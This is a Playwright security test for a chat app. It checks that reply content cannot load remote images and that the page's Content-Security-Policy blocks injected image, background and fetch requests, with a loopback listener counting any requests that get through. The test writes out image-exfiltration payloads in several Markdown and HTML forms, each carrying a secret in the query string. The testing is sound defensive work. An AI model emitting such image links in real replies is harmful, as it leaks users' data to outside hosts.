// Issue 35 §4 in real Chromium: a reply holding remote images — Markdown, reference-style, raw
// HTML, autolinks — loads nothing from another host (they show as links with their URL), and the
// page's Content-Security-Policy refuses what might slip past the renderer (an injected <img>,
// a fetch, a CSS background). A listener on loopback counts every request it gets: none.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { HomePage, SessionPage } from './support/pages';

let listener: http.Server;
let listenerUrl: string;
const heard: string[] = [];

test.beforeAll(async () => {
  listener = http.createServer((request, response) => {
    heard.push(`${request.method} ${request.url} referer=${request.headers.referer ?? ''}`);
    response.writeHead(200, { 'content-type': 'image/png' }).end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
});

test('remote images in a reply load nothing; the policy refuses injected loads', async ({ page }) => {
  const home = new HomePage(page);
  const response = await page.goto('/');
  const policy = response!.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("img-src 'self' data: blob:");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+'(;|$)/); // no 'unsafe-inline'
  expect(response!.headers()['referrer-policy']).toBe('no-referrer');

  await home.createSession({ name: 'Remote images', persona: 'iris' });
  const session = new SessionPage(page);
  const secret = 'secret-7c1d';
  // The scripted Internal Dialog answers "You said: <the message>", so the reply holds them too.
  const forms = [
    `![chart](${listenerUrl}/md.png?d=${secret})`,
    `![ref][leak]\n\n[leak]: ${listenerUrl}/ref.png?d=${secret}`,
    `<img src="${listenerUrl}/html.png?d=${secret}">`,
    `<${listenerUrl}/autolink.png?d=${secret}>`,
    `[![nested](${listenerUrl}/nested.png?d=${secret})](${listenerUrl}/target)`,
  ];
  await session.send(forms.join('\n\n'));
  await expect(session.messages.filter({ hasText: 'You said:' })).toHaveCount(1);
  await expect(session.chat.getByText(`[image: chart — ${listenerUrl}/md.png?d=${secret}]`).first()).toBeVisible();
  await expect(session.chat.locator('img')).toHaveCount(0);

  // Defence in depth: what a renderer bug could let through is refused by the policy itself —
  // each refusal reported by the browser as a policy violation (not a listener that is not there).
  const blocked = await page.evaluate(async (url) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${new URL(event.blockedURI).pathname}`));
    const image = document.createElement('img');
    image.src = `${url}/injected.png`;
    document.body.append(image);
    const div = document.createElement('div');
    div.style.backgroundImage = `url(${url}/background.png)`;
    document.body.append(div);
    let fetched = 'refused';
    try {
      await fetch(`${url}/fetch`, { mode: 'no-cors' });
      fetched = 'sent';
    } catch {
      // Refused by connect-src.
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { fetched, violations: violations.sort() };
  }, listenerUrl);
  expect(blocked).toEqual({ fetched: 'refused', violations: ['connect-src /fetch', 'img-src /background.png', 'img-src /injected.png'] });
  await page.reload();
  // The stored reply (its turn may still be closing on a busy machine: the page shows it when it ends).
  await expect(session.messages.filter({ hasText: 'You said:' })).toHaveCount(1, { timeout: 30_000 });
  await page.waitForLoadState('networkidle');
  expect(heard).toEqual([]);

  // The control: the same browser, outside the app's pages and their policy, reaches the listener
  // — it was there all along, so nothing heard above means nothing was sent.
  const control = await page.context().newPage();
  expect((await control.goto(`${listenerUrl}/control`))?.status()).toBe(200);
  await control.close();
  expect(heard.map((line) => line.split(' ')[1])).toEqual(['/control']);
});
